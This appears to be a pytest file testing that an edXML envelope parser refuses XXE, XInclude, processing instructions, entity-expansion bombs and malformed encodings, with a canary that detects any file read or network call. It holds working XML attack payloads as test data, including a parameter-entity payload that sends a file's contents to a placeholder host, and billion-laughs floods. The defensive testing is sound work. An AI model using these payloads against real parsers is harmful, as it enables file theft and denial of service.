"""TM-04, TM-05, TM-18: whatever a file points at, nothing is opened, called or expanded; it is refused instead.

The shapes are our own. Each goes the whole way in (splitter, gate, reader) and through the parser alone, beside a
canary: a file watched by the kernel, a listening address, and `connect` and `open` that fail the test.
"""

from __future__ import annotations

import gzip
import resource
import time
from typing import TYPE_CHECKING

import pytest
from lxml import etree

from envelopes.dom import parse, safe_parser
from envelopes.faults import Refused
from envelopes.limits import NS
from envelopes.parts import find_parts
from envelopes.reading import read
from envelopes.splitting import Splitter
from envelopes.writing import write_document
from signing import gate
from tests.envelopes.messages import TODAY, letter, read_file, swap
from tests.envelopes.splits import Kept
from tests.support.canary import SECRET, canary

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.support.canary import Canary


@pytest.fixture
def bird(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Canary]:
    """Something that must not be touched."""
    read_file(LETTER)  # what is loaded on first use is loaded
    with canary(tmp_path, monkeypatch) as made:
        yield made


LETTER = write_document(letter())
SUBJECT = "V/v báo cáo công tác cải cách hành chính"


def whole_way(data: bytes) -> object:
    """As an envelope is taken: split, inspected by the gate, read."""
    splitter = Splitter(Kept())
    splitter.feed(data)
    inspected = gate.inspect(splitter.close().skeleton)
    return read(inspected.parts, today=TODAY)


def parser_alone(data: bytes) -> object:
    """Without the splitter before it."""
    return read(find_parts(parse(data)), today=TODAY)


WAYS = {"whole way": whole_way, "parser alone": parser_alone}


def told(way: Callable[[bytes], object], data: bytes) -> set[str]:
    """The codes of a refusal, in which nothing of the canary is; empty when the file is taken, without it too."""
    try:
        taken = way(data)
    except Refused as refused:
        assert SECRET not in repr(refused.faults)
        return {fault.code for fault in refused.faults}
    assert SECRET not in repr(taken)
    return set()


DOCTYPES = {
    "nothing in it": "<!DOCTYPE edXML>",
    "external subset, file": '<!DOCTYPE edXML SYSTEM "file://FILE">',
    "external subset, plain path": '<!DOCTYPE edXML SYSTEM "FILE">',
    "external subset, http": '<!DOCTYPE edXML SYSTEM "http://HOST/x.dtd">',
    "external subset, ftp": '<!DOCTYPE edXML SYSTEM "ftp://HOST/x.dtd">',
    "external subset, public": '<!DOCTYPE edXML PUBLIC "-//BTTTT//edXML//VI" "http://HOST/edxml.dtd">',
    "external entity": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "file://FILE">]>',
    "external entity, http": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "http://HOST/x">]>',
    "external entity, public": '<!DOCTYPE edXML [<!ENTITY x PUBLIC "a" "file://FILE">]>',
    "external entity, other schemes": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "jar:http://HOST/x.jar!/a">]>',
    "external entity, data": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "data:text/plain,x">]>',
    "external entity, folder": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "file://FOLDER">]>',
    "internal entity": '<!DOCTYPE edXML [<!ENTITY x "y">]>',
    "parameter entity": '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "file://FILE"> %p; <!ENTITY x "">]>',
    "parameter entity, http": '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://HOST/p"> %p;]>',
    "parameter entity sends a file": (
        '<!DOCTYPE edXML [<!ENTITY % f SYSTEM "file://FILE">'
        "<!ENTITY % d \"<!ENTITY &#37; s SYSTEM 'http://HOST/?%f;'>\"> %d; %s;]>"
    ),
    "error tells a file": (
        '<!DOCTYPE edXML [<!ENTITY % f SYSTEM "file://FILE">'
        "<!ENTITY % d \"<!ENTITY &#37; e SYSTEM 'file:///none/%f;'>\"> %d; %e;]>"
    ),
    "unparsed entity": '<!DOCTYPE edXML [<!NOTATION n SYSTEM "file://FILE"><!ENTITY x SYSTEM "file://FILE" NDATA n>]>',
    "default attribute": f'<!DOCTYPE edXML [<!ATTLIST edXML xmlns CDATA #FIXED "{NS}" a CDATA "b">]>',
    "both subsets": '<!DOCTYPE edXML SYSTEM "http://HOST/x.dtd" [<!ENTITY x SYSTEM "file://FILE">]>',
    "entity of itself": '<!DOCTYPE edXML [<!ENTITY x "&x;">]>',
    "entities of each other": '<!DOCTYPE edXML [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
    "element declared": "<!DOCTYPE edXML [<!ELEMENT edXML ANY>]>",
    "over several lines": '<!DOCTYPE\n edXML\n SYSTEM\n "file://FILE"\n>',
    "a catalogue before it": '<?oasis-xml-catalog catalog="file://FILE"?><!DOCTYPE edXML SYSTEM "x:y">',
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", DOCTYPES)
def test_doctype_is_refused_and_nothing_is_fetched(bird: Canary, name: str, way: str) -> None:
    doctype = bird.fill(DOCTYPES[name])
    for file in (
        LETTER,
        swap(LETTER, SUBJECT, "&x;"),
        swap(LETTER, 'Manifest version="1.0"', 'Manifest version="&x;"'),
    ):
        start = file.index(b"<edXML") if not file.startswith(b"<?xml") else file.index(b"?>") + 2
        codes = told(WAYS[way], file[:start] + doctype.encode() + file[start:])
        assert codes == {"envelope.doctype"}


@pytest.mark.parametrize("name", DOCTYPES)
def test_bare_parser_fetches_nothing(bird: Canary, name: str) -> None:
    """libxml2 opens what a DOCTYPE names as soon as it is told not to collect ids."""
    shape = bird.fill(DOCTYPES[name])
    for body in ("<edXML/>", "<edXML>&x;</edXML>", "<edXML a='&x;'/>"):
        try:
            root = etree.fromstring((shape + body).encode(), safe_parser())
        except etree.XMLSyntaxError as error:
            assert SECRET not in str(error)
        else:
            assert SECRET not in etree.tostring(root.getroottree(), encoding="unicode")


XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
POINTERS = {
    "XInclude of text": f'<xi:include {XI} href="FILE" parse="text"/>',
    "XInclude of XML": f'<xi:include {XI} href="http://HOST/x.xml"/>',
    "XInclude with a fallback": (
        f'<xi:include {XI} href="http://HOST/x"><xi:fallback><xi:include href="FILE" parse="text"/></xi:fallback>'
        "</xi:include>"
    ),
    "XInclude of an older year": '<i:include xmlns:i="http://www.w3.org/2003/XInclude" href="FILE" parse="text"/>',
    "XInclude of itself": f'<xi:include {XI} href="" xpointer="xpointer(/*)"/>',
    "schema location": f'<a {XSI} xsi:schemaLocation="{NS} http://HOST/edxml.xsd"/>',
    "schema without namespace": f'<a {XSI} xsi:noNamespaceSchemaLocation="file://FILE"/>',
    "base": '<a xml:base="http://HOST/" href="x"/>',
    "link": '<a xmlns:l="http://www.w3.org/1999/xlink" l:type="simple" l:show="embed" l:href="FILE"/>',
    "stylesheet inside": '<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform" version="1.0">'
    '<t:include href="http://HOST/x.xsl"/></t:stylesheet>',
}
INSTRUCTIONS = {
    "stylesheet": '<?xml-stylesheet type="text/xsl" href="http://HOST/x.xsl"?>',
    "model": '<?xml-model href="file://FILE"?>',
    "catalogue": '<?oasis-xml-catalog catalog="file://FILE"?>',
    "PHP": "<?php readfile('FILE'); ?>",
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", POINTERS)
def test_pointer_in_the_signed_part_is_not_followed(bird: Canary, name: str, way: str) -> None:
    """What is known to nobody is passed on as it is, unread, and strictly refused."""
    file = swap(LETTER, "</edXML:MessageHeader>", bird.fill(POINTERS[name]) + "</edXML:MessageHeader>")
    assert told(WAYS[way], file) == set()
    with pytest.raises(Refused, match=r"element\.odd"):
        read_file(file, lenient=False)


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", POINTERS)
def test_pointer_elsewhere_is_refused_and_not_followed(bird: Canary, name: str, way: str) -> None:
    pointer = bird.fill(POINTERS[name])
    for before in ("<edXML:edXMLBody>", "</edXML>", "</AttachmentEncoded>", "</edXML:edXMLHeader>"):
        codes = told(WAYS[way], swap(LETTER, before, pointer + before))
        assert "element.unknown" in codes
    values = told(WAYS[way], swap(LETTER, SUBJECT, pointer))
    assert "element.in_value" in values


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", INSTRUCTIONS)
def test_instruction_is_refused_and_not_followed(bird: Canary, name: str, way: str) -> None:
    instruction = bird.fill(INSTRUCTIONS[name])
    for before in ("<edXML:edXMLEnvelope", SUBJECT, "<edXML xmlns"):
        assert told(WAYS[way], swap(LETTER, before, instruction + before)) == {"envelope.instruction"}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("reference", ["&x;", "&nbsp;", "&#0;", "&#xFFFE;", "&#x110000;", "&#xD800;", "&;", "&#;"])
def test_reference_to_nothing_is_refused(bird: Canary, reference: str, way: str) -> None:
    assert told(WAYS[way], swap(LETTER, SUBJECT, reference)) == {"envelope.not_xml"}


def subset(*declarations: str) -> str:
    return "<!DOCTYPE edXML [" + "".join(declarations) + "]>"


def laughs(lines: int) -> str:
    grown = [f"<!ENTITY l{n} '{10 * f'&l{n - 1};'}'>" for n in range(1, lines)]
    return subset("<!ENTITY l0 'ha'>", *grown, f"<!ENTITY x '&l{lines - 1};'>")


FLOODS = {
    "billion laughs": laughs(10),
    "quadratic": subset(f"<!ENTITY a '{'ha' * 50_000}'>", f"<!ENTITY x '{'&a;' * 5_000}'>"),
    "parameter laughs": subset("<!ENTITY % a 'ha'><!ENTITY % b '&#37;a;&#37;a;'> %b; %b; %b;"),
    "many entities": subset(*(f"<!ENTITY e{n} 'y'>" for n in range(5_000))),
    "many attributes by default": subset(*(f"<!ATTLIST a b{n} CDATA 'y'>" for n in range(5_000))),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", FLOODS)
def test_expansion_costs_next_to_nothing(name: str, way: str) -> None:
    """TM-05: under 50 ms of CPU and 5 MB of memory."""
    for file in (swap(LETTER, SUBJECT, "&x;"), swap(LETTER, 'Manifest version="1.0"', 'Manifest version="&x;"')):
        data = FLOODS[name].encode() + file[file.index(b"<edXML") :]
        assert told(WAYS[way], data) == {"envelope.doctype"}
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        begun = time.process_time()
        told(WAYS[way], data)
        assert time.process_time() - begun < 0.05
        assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 5 * 1024


BODY = LETTER.decode().partition("?>")[2] if LETTER.startswith(b"<?xml") else LETTER.decode()


def declared(encoding: str, *, version: str = "1.0") -> str:
    return f'<?xml version="{version}" encoding="{encoding}"?>{BODY}'


ENCODINGS = {
    "UTF-7": declared("UTF-7").replace("<edXML", "+ADw-edXML", 1).encode(),
    "UTF-7, undeclared": BODY.replace("<edXML:Subject>", "+ADw-edXML:Subject>").encode("utf-7"),
    "UTF-16": declared("UTF-16").encode("utf-16"),
    "UTF-16, no mark": declared("UTF-16").encode("utf-16-le"),
    "UTF-16, other end": declared("UTF-16").encode("utf-16-be"),
    "UTF-32": declared("UTF-32").encode("utf-32"),
    "UTF-32, no mark": declared("UTF-32").encode("utf-32-be"),
    "EBCDIC": declared("cp037").encode("ascii", "xmlcharrefreplace").decode().encode("cp037"),
    "declares UTF-16, is UTF-8": declared("UTF-16").encode(),
    "declares Latin-1, is UTF-8": declared("ISO-8859-1").encode(),
    "declares Windows-1258": declared("windows-1258").encode("ascii", "xmlcharrefreplace"),
    "declares nothing known": declared("x-none").encode(),
    "declares ASCII": declared("US-ASCII").encode("ascii", "xmlcharrefreplace"),
    "overlong slash": LETTER.replace(b"SNV-VP", b"SNV\xc0\xafVP", 1),
    "overlong less-than": LETTER.replace(b"<edXML:Subject>", b"\xc0\xbcedXML:Subject>", 1),
    "surrogate": LETTER.replace(b"SNV-VP", b"SNV\xed\xa0\x80VP", 1),
    "beyond Unicode": LETTER.replace(b"SNV-VP", b"SNV\xf4\x90\x80\x80VP", 1),
    "half a character": LETTER.replace(b"SNV-VP", b"SNV\xe1\xbbVP", 1),
    "NUL": LETTER.replace(b"SNV-VP", b"SNV\0VP", 1),
    "two marks": b"\xef\xbb\xbf\xef\xbb\xbf" + LETTER,
    "mark of UTF-16 before UTF-8": b"\xff\xfe" + LETTER,
    "a second declaration": LETTER.replace(b"<edXML:edXMLEnvelope", b'<?xml version="1.0"?><edXML:edXMLEnvelope', 1),
    "XML 1.1": declared("UTF-8", version="1.1").encode(),
    "compressed": gzip.compress(LETTER),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", ENCODINGS)
def test_other_encodings_never_pass(bird: Canary, name: str, way: str) -> None:
    codes = told(WAYS[way], ENCODINGS[name])
    assert codes & {"envelope.encoding", "envelope.not_xml", "envelope.version", "envelope.junk_before"}


@pytest.mark.parametrize("encoding", ["UTF-8", "utf-8", "Utf-8"])
def test_utf8_passes_however_it_is_called(encoding: str) -> None:
    for data in (declared(encoding).encode(), b"\xef\xbb\xbf" + declared(encoding).encode()):
        assert told(whole_way, data) == told(parser_alone, data) == set()


def test_canary_sings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each of its three senses works; else the tests above would show nothing."""
    unsafe = etree.XMLParser(load_dtd=True, resolve_entities=True, no_network=False)
    shape = '<!DOCTYPE a [<!ENTITY x SYSTEM "file://FILE">]><a>&x;</a>'
    with pytest.raises(AssertionError, match="opened"), canary(tmp_path, monkeypatch) as made:
        assert etree.fromstring(made.fill(shape), unsafe).text == SECRET
    with pytest.raises(AssertionError, match="used"), canary(tmp_path, monkeypatch) as made, pytest.raises(OSError):
        made.path.read_text()
    with pytest.raises(AssertionError, match="called"), canary(tmp_path, monkeypatch) as made:
        import _socket

        plain = _socket.socket()
        plain.connect(("127.0.0.1", made.port))
        plain.close()
